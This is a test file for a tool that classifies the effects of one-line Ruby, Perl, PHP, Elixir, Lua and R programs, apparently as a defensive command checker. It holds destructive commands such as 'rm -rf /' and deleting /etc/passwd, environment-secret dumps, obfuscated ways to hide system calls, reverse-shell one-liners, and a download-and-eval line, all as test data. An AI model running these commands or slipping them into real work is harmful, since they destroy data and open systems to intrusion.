import { expect, test } from 'vitest'
import { quoted } from '../../../quote.ts'
import type { Language } from '../../command-spec.ts'
import { effectLines } from '../../testing/effect-lines.ts'
import { codeDrafts } from '../index.ts'

const programs: Partial<Readonly<Record<Language, string>>> = { ruby: 'ruby -e', perl: 'perl -e', php: 'php -r', elixir: 'elixir -e' }

function linesOf(language: Language, code: string): readonly string[] {
  return effectLines(`${programs[language] ?? ''} ${quoted(code)}`)
}

type Row = readonly [language: Language, code: string, expected: readonly string[]]

test.each<Row>([
  ['ruby', 'puts RUBY_VERSION; puts (1..10).sum', []],
  ['ruby', 'puts File.read("a.txt").lines.map { |l| l.strip.upcase }.uniq.first(3).inspect', ['read a.txt']],
  ['ruby', 'require "json"; d = JSON.parse(File.read("p.json")); puts "v#{d["version"]}"', ['read p.json']],
  ['ruby', 'def fib(n) = n < 2 ? n : fib(n - 1) + fib(n - 2)\nputs fib(20)', []],
  ['ruby', 'x = 10 / 2; puts x / 3', []],
  ['ruby', '$stdin.each_line { |l| puts $1 if l =~ /(\\d+)ms/ }', []],
  ['elixir', 'IO.puts(Enum.sum(1..100)); IO.inspect(String.split("a-b", "-"))', []],
  ['elixir', 'for {k, v} <- %{a: 1}, do: IO.puts("#{k}=#{v}")', []],
  ['elixir', 'File.read!("a.txt") |> String.split("\\n", trim: true) |> length() |> IO.puts()', ['read a.txt']],
  ['elixir', '"a.txt" |> File.read!() |> String.upcase() |> IO.puts()', ['read a.txt']],
  ['elixir', '"lib/**/*.ex"\n|> Path.wildcard()\n|> length()\n|> IO.puts()', ['read:names lib/**/*.ex']],
  [
    'ruby',
    '3.times { |i| File.write("out/#{i}.csv", "x") }; [1].each_with_index { |x, i| puts File.read("in/#{i}") }',
    ['write out/[0-9]*.csv', 'read in/[0-9]*'],
  ],
  ['ruby', 't = Time.at(0).utc; puts t.wday, [1, 2].each_cons(2).to_a.inspect', []],
  ['perl', 'use JSON::PP; print JSON::PP->new->pretty->encode({ a => 1 })', []],
  ['ruby', 'puts 3.7.truncate, 2.345.truncate(2)', []],
  [
    'ruby',
    'File.open("a.txt", "r+") { |f| f.truncate(0) }',
    ['read a.txt', 'write:edit a.txt', 'unknown: ruby empties a file only known at run time'],
  ],
  ['ruby', 'require "erb"; puts ERB.new("<%= 1 + 1 %>").result', []],
  ['ruby', 'require "erb"; ERB.new("a <% File.delete(%q(a.txt)) -%> b").result', ['delete a.txt']],
  ['ruby', 'require "erb"; name = 1; puts ERB.new("<%= name %>").result(binding)', []],
  ['ruby', 'require "bundler/setup"; puts 1', []],
  ['ruby', 'FileUtils.rm_rf Dir.glob("{a,b}")', ['delete a', 'delete b', 'read:names {a,b}']],
  ['ruby', 'FileUtils.rm_rf Dir.glob(["a", "b"])', ['delete a', 'delete b']],
  [
    'ruby',
    'FileUtils.rm_rf Dir.glob("{a,{b,c}}")',
    ['unknown: deletes `(computed)`, a path only known at run time', 'read:names {a,{b,c}}'],
  ],
  ['perl', 'unlink glob("{a,b}/*")', ['delete a/*', 'delete b/*', 'read:names {a,b}/*']],
  ['perl', 'unlink glob("a/* b/*")', ['delete a/*', 'delete b/*', 'read:names a/* b/*']],
  ['ruby', 'require "bundler/inline"; puts 1', ['unknown: ruby library `bundler/inline` is not described']],
  ['ruby', 'puts Gem::Version.new("1.2") > Gem::Version.new("1.1"); require "minitest/autorun"', []],
  ['ruby', 'Item = Struct.new(:price) do\n  def twice = price * 2\nend\nDir["a/*"].each { |f| File.read(f) }', ['read a/*']],
  [
    'ruby',
    'file = "a"\ndef keep(file:)\n  File.write(file, "x")\nend\nFile.read(file)',
    [
      'write a',
      'unknown: writes `(computed)`, a path only known at run time',
      'read a',
      'unknown: reads `(computed)`, a path only known at run time',
    ],
  ],
  ['ruby', 'case [1, [2, 3]]\nin [a, [b, *rest]]\n  puts a + b + rest.sum\nend', []],
  ['ruby', 'def f(a, b: 1, **c) = a + b + c.size\nputs "#{[f(1)].map { |x| "#{x}" }.join}"', []],
  ['ruby', 'Point = Struct.new(:x)\nputs "#{Point.new(1).x}"', []],
  ['ruby', 'require "net/http"; h = Net::HTTP.new("localhost", 3000); puts h.get("/a").body', ['connect:post localhost']],
  ['ruby', 'require "tmpdir"; Dir.mktmpdir { |d| File.write(File.join(d, "a"), "x") }', ['write (temp)/a']],
  [
    'ruby',
    'require "find"; Find.find("a", "b") { |f| puts File.size(f) }',
    ['read:names a', 'read:names b', 'read:names a/**/*', 'read:names b/**/*'],
  ],
  ['ruby', 'puts URI.parse("http://a.test/?b=1").query, 1; puts $LOAD_PATH', []],
  ['perl', 'use Time::Piece; print localtime->ymd, "\\n"', []],
  ['ruby', 'r = { a: 1 }; k = r[:a].zero? ? :none : :some; puts k, 3 > 2 ? :steep : :flat', []],
  ['ruby', 'require "rexml/document"; puts REXML::Document.new(File.read("a.xml")).root.attributes["id"]', ['read a.xml']],
  ['ruby', 'require "digest"; puts Digest::SHA256.file("a.txt").hexdigest', ['read a.txt']],
  ['ruby', 'require "optparse"; OptionParser.new { |o| o.on("-v") { puts 1 } }.parse!(%w[-v])', []],
  ['perl', 'print "$1\\n" if /in (\\d+)ms/', []],
  ['perl', 's/foo\\/bar/baz/g; tr/a-z/A-Z/; print unless /^#/', []],
  ['perl', 'my %c; while (<>) { $c{$1}++ if /(\\w+)/ } for (sort { $c{$b} <=> $c{$a} } keys %c) { print "$_ $c{$_}\\n" }', []],
  ['perl', 'open(my $fh, "<", "a.txt") or die; print while <$fh>', ['read a.txt']],
  ['perl', 'open(my $fh, "+>a.txt")', ['write a.txt']],
  ['perl', 'open(F, "+< a.txt")', ['write a.txt']],
  ['perl', 'open(F, "+>>a.txt")', ['write:append a.txt']],
  ['perl', 'open(F, "< a.txt")', ['read a.txt']],
  ['perl', 'use POSIX; print strftime("%Y", localtime), $x / 2', []],
  ['perl', 'my $n = shift // 10; $x //= max(@t) // 0; print $n / 2, "\\n" if $x', []],
  ['perl', 'use File::Find; find(sub { $n{-f $_ ? "file" : "else"}++ }, "lib"); print "$_ $n{$_}" for sort keys %n }', ['read:names lib']],
  ['perl', 'print "$_\\n" for @INC', []],
  ['php', 'print_r(array_map("trim", file("a.txt"))); print_r(array_filter(explode(",", "a,,b")));', ['read a.txt']],
  ['php', 'function f() { yield 1; } try { echo 1; } catch (DivisionByZeroError $e) { echo $e->getLine(); }', []],
  ['php', 'ob_start(); echo 1; echo strlen(ob_get_clean());', []],
  ['php', 'echo PHP_VERSION, PHP_EOL;', []],
  [
    'php',
    '$c = stream_context_create(["http" => ["timeout" => 2]]); echo file_get_contents("http://localhost/x", false, $c);',
    ['connect:get http://localhost/x'],
  ],
  ['php', 'echo (new PDO("sqlite:a.db"))->query("select 1")->fetchColumn();', ['read a.db', 'database:read reads only']],
  [
    'php',
    '$all = new RecursiveIteratorIterator(new RecursiveDirectoryIterator("a")); foreach ($all as $f) { echo count(file($f->getPathname())); }',
    ['read:names a', 'read a/**/*'],
  ],
  ['php', 'echo json_encode(json_decode(file_get_contents("c.json"), true)["require"]);', ['read c.json']],
  ['php', '$x = [1, 2]; foreach ($x as $k => $v) { echo "$k={$v}\\n"; }', []],
])('%s settles: %s', (language, code, expected) => {
  expect(linesOf(language, code)).toEqual(expected)
})

test.each<Row>([
  ['ruby', 'system("rm -rf /")', ['delete /']],
  ['ruby', 'exec "rm", "-rf", "/"', ['delete /']],
  ['ruby', 'puts "#{`rm -rf /etc`}"', ['delete /etc']],
  ['ruby', '%x(rm -rf /etc)', ['delete /etc']],
  ['ruby', 'open("|rm x")', ['delete x']],
  ['ruby', 'FileUtils.rm_rf("/etc")', ['delete /etc']],
  ['ruby', 'puts ENV.to_h; puts ENV["HOME"]', ['infra:secret environment']],
  ['elixir', 'System.cmd("sh", ["-c", "rm -rf /"])', ['delete /']],
  ['elixir', ':os.cmd(~c"rm -rf /")', ['delete /']],
  ['elixir', '"rm -rf /etc" |> System.shell()', ['delete /etc']],
  ['elixir', '"rm" |> System.cmd(["-rf", "/etc"])', ['delete /etc']],
  ['elixir', 'IO.puts("#{System.shell("rm x")}")', ['delete x']],
  ['elixir', 'File.rm_rf!("/etc")', ['delete /etc']],
  ['elixir', 'IO.inspect(System.get_env())', ['infra:secret environment']],
  ['perl', 'system("rm -rf /")', ['delete /']],
  ['perl', '`rm x`; qx{rm y}', ['delete x', 'delete y']],
  ['perl', 's/x/system("rm y")/e', ['delete y']],
  ['perl', 'open(F, "rm x |")', ['delete x']],
  ['perl', 'open F, "> a"; print F "x"; close(F)', ['write a']],
  ['perl', 'open P, "|sh"; print P "rm x"', ['execute:arbitrary sh', 'delete x']],
  ['perl', 'open F, "> a"; F', ['write a', 'unknown: perl `F` is not described']],
  ['perl', 'exec "rm", "-r", $ENV{HOME}', ['delete ~', 'delete ~']],
  [
    'perl',
    'use File::Find; find(sub { unlink }, "lib")',
    ['read:names lib', 'delete lib', 'unknown: deletes `(computed)`, a path only known at run time'],
  ],
  ['perl', 'unlink "a", "/etc/passwd"', ['delete a', 'delete /etc/passwd']],
  ['php', 'shell_exec("rm -rf /");', ['delete /']],
  ['php', 'echo `rm x`;', ['delete x']],
  ['php', 'unlink("/etc/passwd"); file_put_contents("o.txt", "x");', ['delete /etc/passwd', 'write o.txt']],
])('%s, what it plainly does: %s', (language, code, expected) => {
  expect(linesOf(language, code)).toEqual(expected)
})

test.each<readonly [language: Language, code: string]>([
  ['ruby', 'eval "1"'],
  ['ruby', 'Object.send(:system, "rm x")'],
  ['ruby', '["a", "system(1)"].inject(:instance_eval)'],
  ['ruby', 'require name'],
  ['ruby', 'require_relative name'],
  ['ruby', 'Process.daemon'],
  ['ruby', 'mystery(1)'],
  ['ruby', 'system = 1; send = 2; send "x"'],
  ['ruby', 'system(ARGV[0])'],
  ['perl', 'eval "1"'],
  ['perl', 'push @INC, "/tmp"; use Mystery'],
  ['perl', 'my $x = 1 // `rm x`; mystery($x)'],
  ['perl', 'print "@{[ `rm x` ]}"'],
  ['perl', 'print "$h{system q(rm x)}"'],
  ['perl', '$f = "system"; &$f("rm x")'],
  ['perl', '"system"->("rm x")'],
  ['perl', '@ARGV = ("rm x|"); print while <>'],
  ['perl', 'do "x.pl"'],
  ['perl', '/(?{ system "rm x" })/'],
  ['perl', 's/x/y/ee'],
  ['perl', 'require Mystery'],
  ['perl', 'system(@ARGV)'],
  ['ruby', 'ERB.new(gets).result'],
  ['ruby', '$LOAD_PATH << "/tmp/x"'],
  ['ruby', 'db.query sql, 1'],
  ['ruby', 'require "net/http"; h = Net::HTTP.new("localhost", 3000); h.delete("/a")'],
  ['ruby', '{}.then { |x| x.mystery? || x.mystery! }'],
  ['ruby', 'class String; def strip = "/etc/x"; end; File.write("a ".strip, "")'],
  ['ruby', 'def File.join(*) = "/etc/x"; File.write(File.join("a"), "")'],
  ['ruby', 'def format(x) = "/etc/x"; File.write(format("a"), "")'],
  ['php', 'eval("x");'],
  ['php', 'file_get_contents("http://localhost/x", false, stream_context_create(["http" => ["method" => "DELETE"]]));'],
  ['php', '$f = "system"; $f("rm x");'],
  ['php', '("sys"."tem")("rm x");'],
  ['php', 'array_map("system", ["rm x"]);'],
  ['php', 'ob_start("system"); echo "rm x";'],
  ['php', 'array_walk_recursive($a, "system");'],
  ['php', 'echo "${system(\'rm x\')}";'],
  ['php', 'include $argv[1];'],
  ['php', 'include "data:text/plain,<?php x();";'],
  ['php', '$o->run();'],
  ['lua', 'load("x")()'],
  ['lua', 'mystery()'],
  ['elixir', 'apply(System, :cmd, ["rm", ["x"]])'],
  ['elixir', 'import System; cmd "rm", ["x"]'],
  ['elixir', 'm = System; m.cmd("rm", ["x"])'],
  ['elixir', 'Enum.each(["rm x"], &:os.cmd/1)'],
  ['elixir', "IO.puts('#{:os.cmd('rm x')}')"],
  ['elixir', 'Chat.Repo.delete_all(Chat.Room)'],
  ['r', 'eval(parse(text = "x"))'],
  ['r', 'mystery(1)'],
])('%s stays unknown: %s', (language, code) => {
  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'unknown' }))
})

test.each<readonly [language: Language, code: string, tag: string]>([
  ['ruby', 'require "socket"; s = TCPSocket.new("10.0.0.1", 1); exec("sh -i")', 'remote-shell'],
  ['perl', 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); exec("/bin/sh -i")', 'remote-shell'],
  ['php', '$s = fsockopen("10.0.0.1", 1); exec("sh -i <&3");', 'remote-shell'],
  ['php', 'eval(base64_decode("x"));', 'decoded'],
  ['ruby', 'require "open-uri"; eval(URI.open("http://x.example").read)', 'download'],
])('%s is hostile: %s', (language, code, tag) => {
  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'execute', tag }))
})

test.each<Row>([
  ['lua', 'print(("x"):rep(3), #arg, math.floor(2.5))', []],
  ['lua', 'os.execute("rm x"); local f = io.open("a.txt", "w")', ['shell', 'write']],
  ['r', 'x <- c(1, 2, 3); print(mean(x)); summary(read.csv("a.csv"))', ['read']],
  ['r', 'system("rm x")', ['shell']],
])('%s: %s', (language, code, expected) => {
  expect(codeDrafts(language, code).map((draft) => (draft.do === 'effect' ? draft.kind : draft.do))).toEqual(expected)
})

const project = {
  '/w/lib/chat.ex': '',
  '/w/lib/Log/Slice.pm': '',
  '/w/src/slug.lua': '',
  '/w/lib/ink_pot.rb': 'def fill(x) = x\n',
  '/w/fill.R': 'fill <- function(x) x\n',
  '/w/web/pot.php': '<?php\nfunction fill($x) { return $x; }\n',
  '/w/src/Ink/Pot.php': '',
  '/w/Gemfile': "gem 'nokogiri'\ngem 'redis'\n",
  '/w/cpanfile': "requires 'Try::Tiny';",
}

test.each<readonly [line: string, ...expected: string[]]>([
  [
    "mix run -e 'alias Chat.Room; Room.list() |> Enum.count() |> IO.puts()'",
    'execute:project program',
    'execute:project elixir module `Chat.Room`',
  ],
  ["elixir -e 'alias Other.Room; Room.list()'", 'unknown: elixir module `Other.Room` is not described'],
  ["elixir -e 'alias Chat.Repo, as: Enum; Enum.delete(1)'", 'unknown: elixir `Chat.Repo.delete` may change what is kept'],
  ["perl -MLog::Slice -e 'print Log::Slice->new(1)->rows(2)'", 'execute:project perl module `Log::Slice`'],
  ["perl -e 'use Mystery'", 'unknown: perl module `Mystery` is not described'],
  ["perl -MTry::Tiny -e 'print 1'", 'execute:project perl module `Try::Tiny`'],
  ["perl -e 'package Heap; sub new { bless {}, shift } sub size { 1 } package main; print Heap->new->size'"],
  [`perl -e 'package Heap; our @ISA = ("IO::File"); package main; Heap->new("| rm x")'`, 'unknown: perl module `Heap` is not described'],
  // declared is not described: what its objects do is not known
  ["perl -e 'Try::Tiny->go'", 'unknown: perl module `Try::Tiny` is not described'],
  ['perl -MJSON::PP -e \'"IO::File"->new("| rm x")\'', 'unknown: perl `.new` is not described'],
  [
    `ruby -Ilib -e 'require "ink_pot"; p InkPot::Nib.new(1).width'`,
    'execute:project libraries',
    'execute:project ruby library `ink_pot`',
    'execute:project ruby class `InkPot`',
  ],
  [`ruby -e 'x = InkPot.open; x.refill(2)'`, 'execute:project ruby class `InkPot`'],
  [`ruby -e 'require "mystery"'`, 'unknown: ruby library `mystery` is not described'],
  [`ruby -e 'require "nokogiri"; Nokogiri::HTML("")'`, 'execute:project ruby library `nokogiri`', 'execute:project ruby class `Nokogiri`'],
  // what it does to a store is not told by being declared
  [`ruby -e 'Redis.new.flushall'`, 'unknown: ruby class `Redis` is not described'],
  [`ruby -e 'InkPot.wipe_all'`, 'execute:project ruby class `InkPot`', 'unknown: ruby calls `wipe_all`, which may destroy data'],
  [
    `ruby -e '$:.unshift "/opt/x"; require "ink_pot"'`,
    'unknown: ruby changes where libraries come from',
    'execute:project ruby library `ink_pot`',
  ],
  [`ruby -e '$LOAD_PATH.unshift("lib"); require "ink_pot"'`, 'execute:project ruby library `ink_pot`'],
  [`ruby -e 'InkPot.send(:go)'`, 'execute:project ruby class `InkPot`', 'unknown: ruby `send` can reach anything'],
  [
    `php -r 'require "vendor/autoload.php"; $p = new App\\Ink\\Pot(1); echo $p->width()->inches;'`,
    'read vendor/autoload.php',
    'execute:project vendor/autoload.php',
    'execute:project php class `App\\Ink\\Pot`',
  ],
  [`php -r 'include ".env";'`, 'read .env', 'execute:project .env'],
  [`php -r 'Evil\\Net\\Client::post(1);'`, 'unknown: php class `Evil\\Net\\Client` is not described'],
  [
    `php -r 'require "/opt/x.php";'`,
    'read /opt/x.php',
    'execute:project /opt/x.php',
    'unknown: runs `/opt/x.php`, which is not part of the workspace',
  ],
  [`lua -e 'package.path = "src/?.lua;" .. package.path; print(require("slug").make("a"))'`, 'execute:project lua module `slug`'],
  [`lua -e 'local o = setmetatable({}, { __index = function(_, k) return k end }); print(o.name)'`],
  [
    `lua -e 'setmetatable(_G, { __index = function(_, k) return k end })'`,
    'unknown: lua `setmetatable` can reach anything',
    'unknown: lua `_G` can reach anything',
  ],
  [`lua -e 'require("slug").wipe_all()'`, 'execute:project lua module `slug`', 'unknown: lua calls `wipe_all`, which may destroy data'],
  [`lua -e 'local o = require("os"); o.execute("x")'`, 'unknown: lua module `os` is not described'],
  [`lua -e 'dofile("src/slug.lua")'`, 'execute:project lua file `src/slug.lua`'],
  [`lua -e 'dofile("/opt/slug.lua")'`, 'unknown: lua file `/opt/slug.lua` is not described'],
  [`lua -e 'local f = dofile; f(arg[1])'`, 'unknown: lua loads a file only known at run time'],
  [`lua -e 'package.path = "/opt/?.lua"'`, 'unknown: lua `package` can reach anything'],
  [`Rscript -e 'source("fill.R"); print(fill(1))'`, 'execute:project R', 'execute:project fill.R'],
  [`Rscript -e 'source("fill.R"); spill(1)'`, 'execute:project R', 'execute:project fill.R', 'unknown: r `spill` is not described'],
  [`ruby -e 'require_relative "lib/ink_pot"; fill(1)'`, 'execute:project lib/ink_pot.rb'],
  [`ruby -e 'require_relative "lib/ink_pot"; spill(1)'`, 'execute:project lib/ink_pot.rb', 'unknown: ruby `spill` is not described'],
  [`php -r 'require "web/pot.php"; fill(1);'`, 'read web/pot.php', 'execute:project web/pot.php'],
  [`php -r 'require "web/pot.php"; spill(1);'`, 'read web/pot.php', 'execute:project web/pot.php', 'unknown: php `spill` is not described'],
])('modules of the project: %s', (line, ...expected) => {
  const effects = effectLines(line, { files: project })
  expect([...new Set(effects)]).toEqual(expected)
})
